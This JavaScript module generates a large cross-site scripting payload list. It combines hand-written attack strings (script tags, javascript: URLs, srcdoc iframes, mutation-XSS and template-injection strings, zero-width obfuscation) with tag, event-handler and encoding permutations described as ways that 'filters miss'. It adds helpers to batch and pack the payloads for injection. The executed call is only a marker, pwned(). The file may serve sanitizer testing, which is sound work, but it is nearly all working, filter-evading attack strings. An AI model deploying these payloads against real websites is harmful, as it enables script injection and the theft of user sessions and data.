// Strings that run as script wherever text is taken for markup: made from tags, ways to run, and ways to write.

/** What a payload calls when it runs. */
const RUN = 'pwned()';

const TAGS = [
  'a', 'abbr', 'article', 'audio', 'b', 'body', 'button', 'details', 'div', 'embed', 'form', 'h1', 'iframe', 'img',
  'input', 'keygen', 'link', 'marquee', 'math', 'meta', 'object', 'p', 'select', 'span', 'style', 'svg', 'table',
  'template', 'textarea', 'title', 'video', 'x-y',
];
const HANDLERS = [
  'onload', 'onerror', 'onfocus autofocus', 'onmouseover', 'ontoggle open', 'onanimationstart', 'onpointerenter',
  'onbeforetoggle', 'onclick', 'oncontentvisibilityautostatechange', 'onscroll',
];

/** Whole attacks that are more than one tag. */
const WHOLE = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="data:text/css,*{x:y}">`,
  `<style>@import 'data:text/css,*{display:none}';</style>`,
  `<object data="javascript:${RUN}"></object>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `</bdi></button></li></ul><img src=x onerror=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus='${RUN}`,
  `\` onfocus=${RUN} \``,
  `javascript:${RUN}`,
  `{{${RUN}}}`,
  `{% ${RUN} %}`,
  `\${${RUN}}`,
  `{ $app }<img src=x onerror=${RUN}>`,
  `<!--<img src="--><img src=x onerror=${RUN}>">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<img src=x\u2028onerror=${RUN}>`,
  `<\u200bscript>${RUN}</script>`,
];

/** Ways to write the same that filters miss. @type {((tag: string, handler: string) => string)[]} */
const WRITINGS = [
  (tag, handler) => `<${tag} src=x ${attribute(handler, RUN)}>`,
  (tag, handler) => `"><${tag.toUpperCase()}/${attribute(handler, `'${RUN}'`)} src=x>`,
  (tag, handler) => `&lt;${tag} ${attribute(handler, RUN)}&gt;<${tag}\t${attribute(handler, '&#112;wned()')}>`,
];

/**
 * @param {string} handler its name, perhaps with another attribute that makes it run by itself
 * @param {string} value
 */
function attribute(handler, value) {
  const [name, more = ''] = handler.split(' ');
  return `${name}=${value} ${more}`.trim();
}

/** All of them: more than a thousand, each another one. */
export const PAYLOADS = [
  ...new Set([...WHOLE, ...TAGS.flatMap((tag) => HANDLERS.flatMap((handler) => WRITINGS.map((write) => write(tag, handler))))]),
];

/**
 * In groups of so many.
 * @template T
 * @param {T[]} all
 * @param {number} size
 * @returns {T[][]}
 */
export function groups(all, size) {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, index) => all.slice(index * size, (index + 1) * size));
}

/**
 * As many in one text as fit, each in exactly one.
 * @param {string[]} all
 * @param {number} longest
 * @returns {string[]}
 */
export function packed(all, longest) {
  /** @type {string[]} */
  const texts = [];
  for (const payload of all) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length < longest) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
